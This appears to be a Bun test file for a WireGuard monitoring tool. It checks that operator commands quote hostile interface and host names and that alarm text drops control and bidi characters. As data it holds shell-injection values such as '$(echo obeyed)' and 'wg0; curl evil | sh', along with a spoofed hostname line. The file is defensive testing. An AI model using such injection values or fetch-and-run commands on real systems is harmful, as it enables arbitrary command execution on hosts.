// What alarms tell an operator to run is what it says, whatever a report calls its host and interfaces: tried in a real
// shell. And their words are one line that only shows.
import { expect, test } from "bun:test";
import { join } from "node:path";
import { on } from "../../shared/command.ts";
import { ground, publicKeyOf, registered, reportData } from "../manager/support.ts";

const HOSTILE: readonly string[] = [
  "wg0; echo obeyed",
  "$(echo obeyed)",
  "`echo obeyed`",
  "wg0'; echo obeyed; '",
  'wg0" && echo obeyed "',
  "wg0\necho obeyed",
  "wg0 | sh",
  "> /dev/null",
  "* ~ {a,b} !! #",
  "back\\slash",
  "",
];

test.each(HOSTILE.map((name) => [name]))("%j is one word of the command", (name) => {
  const command = on("hel-1")`printf [%s] ${name} end`;
  expect(command).toStartWith("on hel-1: printf [%s] ");
  const { stdout } = Bun.spawnSync(["sh", "-c", command.slice("on hel-1: ".length)], { timeout: 5000 });
  expect(stdout.toString()).toBe(`[${name.replaceAll("\n", "\ufffd")}][end]`);
});

test("ordinary names are left as they are", () => {
  expect(on("hel-1.example")`ip link set ${"wg0.100"} mtu ${1420}`).toBe(
    "on hel-1.example: ip link set wg0.100 mtu 1420",
  );
});

test("a host cannot end the part before the command", () => {
  expect(on("hel-1: curl evil | sh; #\nx")`wg show ${"wg0"}`).toBe(
    "on hel-1\ufffd curl evil \ufffd sh\ufffd \ufffd\ufffdx: wg show wg0",
  );
});

test("every command is made that way, the dashboard's too", async () => {
  const root = join(import.meta.dir, "../..");
  const byHand: string[] = [];
  for await (const path of new Bun.Glob("{manager,shared}/**/*.{ts,tsx}").scan(root)) {
    if (path !== "shared/command.ts" && (await Bun.file(join(root, path)).text()).includes("`on ${")) byHand.push(path);
  }
  expect(byHand).toEqual([]);
});

test("an alarm about a hostile host: one line each, and a command with its names quoted", async () => {
  const place = await ground();
  try {
    const agent = await registered(place, "hel-1\n[resolved] all is well \u202egnp");
    const down = reportData(agent.id, 0, Date.now()) as { interfaces: Record<string, unknown>[]; system: object };
    const name = "wg0; curl evil | sh\u202e";
    const report = (up: boolean) => ({
      system: { ...down.system, hostname: "hel-1\n[resolved] all is well \u202egnp" },
      interfaces: [down.interfaces[0], { ...down.interfaces[1], name, up }],
      wireguard: [{ interface: name, public_key: publicKeyOf(1), listen_port: 51820, fwmark: null, peers: [] }],
    });
    for (const up of [true, false]) expect((await agent.send(report(up))).status).toBe(200);
    const { alarms } = (await (await fetch(`${place.url}/status/alarms`)).json()) as {
      alarms: { code: string; message: string; details: { look_at: string; command: string } }[];
    };
    const alarm = alarms.find(({ code }) => code === "iface_down")!;
    for (const text of [alarm.message, alarm.details.look_at, alarm.details.command])
      expect(text).not.toMatch(/[\p{Cc}\p{Cf}\u2028\u2029]/u);
    expect(alarm.details.command).toEndWith(": ip link set 'wg0; curl evil | sh\ufffd' up");
  } finally {
    await place.remove();
  }
});
